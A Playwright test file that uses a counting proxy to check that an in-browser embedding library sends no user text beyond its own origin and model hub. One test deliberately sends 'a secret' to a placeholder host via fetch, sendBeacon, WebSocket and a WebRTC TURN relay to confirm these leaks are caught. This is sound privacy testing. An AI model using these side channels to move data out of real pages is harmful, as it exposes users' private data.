/**
 * What leaves the device in whole sessions: every request of the browser goes through a proxy of ours that counts it
 * and lets nothing pass but what is for the site and the hub.
 */
import { type Browser, type BrowserContext, chromium, expect, type Page, test } from '@playwright/test';
import { isApiPath } from '../../src/api/paths.js';
import { CountingProxy, type Passed } from './counting-proxy.js';
import { startDemo } from './demo-server.js';
import { fetchEmbeddings, openEngine, registerServiceWorker } from './engine-page.js';
import { WeightsServer } from './weights-server.js';

const pages = 'http://localhost:4173';
const hub = new WeightsServer();
/** The browser's own services are told to be at an address of their own, which is no page's. */
const browserOrigin = 'http://chromium.invalid';
const ownServices = [
  // WebRTC is the one way around a proxy: by UDP, to any address.
  '--force-webrtc-ip-handling-policy=disable_non_proxied_udp',
  '--disable-component-update',
  `--component-updater=url-source=${browserOrigin}/`,
  `--gaia-url=${browserOrigin}`,
  `--autofill-server-url=${browserOrigin}/`,
];
let hubUrl = '';
let demo: Awaited<ReturnType<typeof startDemo>>;
let proxy: CountingProxy;
let browser: Browser;
let context: BrowserContext;

test.beforeEach(async ({ launchOptions }) => {
  hubUrl = await hub.start();
  demo = await startDemo();
  proxy = new CountingProxy([pages, demo.origin, hubUrl]);
  // Without the bypass rule a browser does not ask its proxy for local addresses.
  browser = await chromium.launch({
    ...launchOptions,
    args: [...(launchOptions.args ?? []), ...ownServices],
    proxy: { server: await proxy.start(), bypass: '<-loopback>' },
  });
  context = await browser.newContext();
});

test.afterEach(async () => {
  await browser.close();
  await Promise.all([proxy.stop(), demo.close(), hub.stop()]);
});

/** Requests of this session that are not for one of these files, sent with nothing in them. */
function strayed(requests: readonly Passed[], isExpected: (url: URL, method: string) => boolean): Passed[] {
  return requests.filter(({ method, url, body }) => {
    const isSilent = body === '' && !/secret/i.test(decodeURIComponent(url));
    const isOwn = new URL(url).origin === browserOrigin;
    return !isOwn && !(isSilent && isExpected(new URL(url), method));
  });
}

const isFileOf = (origin: string) => (url: URL, method: string) =>
  method === 'GET' && url.origin === origin && !isApiPath(url.pathname, '');

test('a session of the playground asks only its own origin, only for files, and sends nothing', async () => {
  const page = await context.newPage();
  await page.goto(`${demo.origin}/?model=bert-cls&device=wasm&dtype=f32`);
  const grid = page.getByRole('grid');
  await expect(grid).toHaveAttribute('aria-rowcount', '4');
  await page.getByRole('textbox', { name: 'Sentences, one a line' }).fill('a secret sentence\nand a second secret');
  await expect(grid).toHaveAttribute('aria-rowcount', '2');
  expect((await fetchEmbeddings(page, 'a third secret')).status).toBe(200);
  await page.reload();
  await expect(grid).toHaveAttribute('aria-rowcount', '4');
  expect(proxy.requests.length).toBeGreaterThan(5);
  expect(strayed(proxy.requests, isFileOf(demo.origin))).toEqual([]);
});

test('a session of the package asks its own origin for files, and the hub for the model that was asked for', async () => {
  const page = await openFromHub();
  const other = await openFromHub();
  await registerServiceWorker(page);
  expect((await fetchEmbeddings(page, 'a secret of a plain fetch')).status).toBe(200);
  expect((await fetchEmbeddings(other, 'a secret of another tab')).status).toBe(200);
  await page.evaluate(async () => {
    const { vecinity, subject } = window;
    const init = (body: object) => ({
      method: 'POST',
      body: JSON.stringify(body),
      headers: { 'content-type': 'application/json' },
    });
    await vecinity.embed(['a secret of the client', 'another secret']);
    await vecinity.rerank('a secret question', ['a secret document']);
    await vecinity.fetch('/v1/embeddings', init({ input: 'a secret of vecinity.fetch' }));
    await vecinity.fetch('/v1/embeddings', init({ input: ['a secret that is refused', 5] }));
    await subject.fetchInWorker('/v1/embeddings', init({ input: 'a secret of a worker' }));
    await vecinity.load('/models/no-such-model/').catch(() => {});
    await vecinity.dispose();
  });
  expect((await fetchEmbeddings(other, 'a secret after the engine moved')).status).toBe(200);
  const isOfModel = ({ pathname }: URL) => /^(?:\/api\/models)?\/owner\/bert-cls\//.test(pathname);
  const isAsked = (url: URL, method: string) =>
    isFileOf(pages)(url, method) || (url.origin === hubUrl && isOfModel(url) && /^(?:GET|OPTIONS)$/.test(method));
  expect(proxy.requests.filter(({ url }) => url.endsWith('/model.safetensors'))).toHaveLength(1);
  expect(strayed(proxy.requests, isAsked)).toEqual([]);
});

test('the count sees what a page, a worker and a Service Worker send, and lets none of it pass', async () => {
  const page = await openFromHub();
  await registerServiceWorker(page);
  const before = proxy.requests.length;
  const send = (url: string) => fetch(url, { method: 'POST', body: 'a secret', mode: 'no-cors' }).catch(() => {});
  await page.evaluate(send, 'http://elsewhere.example/page');
  await page.workers()[0]?.evaluate(send, 'http://elsewhere.example/worker');
  await context.serviceWorkers()[0]?.evaluate(send, 'http://elsewhere.example/service-worker');
  await page.evaluate(send, `${pages}/v1/embeddings/leak`);
  await page.evaluate(send, 'https://elsewhere.example/');
  await page.evaluate(async () => {
    navigator.sendBeacon('http://elsewhere.example/beacon', 'a secret');
    const socket = new WebSocket('ws://elsewhere.example/socket');
    await new Promise((resolve) => {
      socket.onerror = resolve;
    });
    const urls = 'turn:elsewhere.example:3478?transport=tcp';
    const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'a', credential: 'secret' }] });
    peer.createDataChannel('a secret');
    await peer.setLocalDescription();
  });
  await expect.poll(() => proxy.requests.map(({ url }) => url)).toContain('https://elsewhere.example:3478/');
  // A relay is asked as often as it likes.
  const found = new Set(strayed(proxy.requests.slice(before), isFileOf(pages)).map(({ url }) => url));
  expect([...found].sort()).toEqual(
    [
      'http://elsewhere.example/page',
      'http://elsewhere.example/service-worker',
      'http://elsewhere.example/worker',
      `${pages}/v1/embeddings/leak`,
      'https://elsewhere.example:443/',
      'https://elsewhere.example:80/',
      'https://elsewhere.example:3478/',
      'http://elsewhere.example/beacon',
    ].sort(),
  );
});

async function openFromHub(): Promise<Page> {
  const page = await context.newPage();
  await openEngine(page, { model: 'owner/bert-cls', hubUrl, modelsUrl: null, share: true }, pages);
  return page;
}
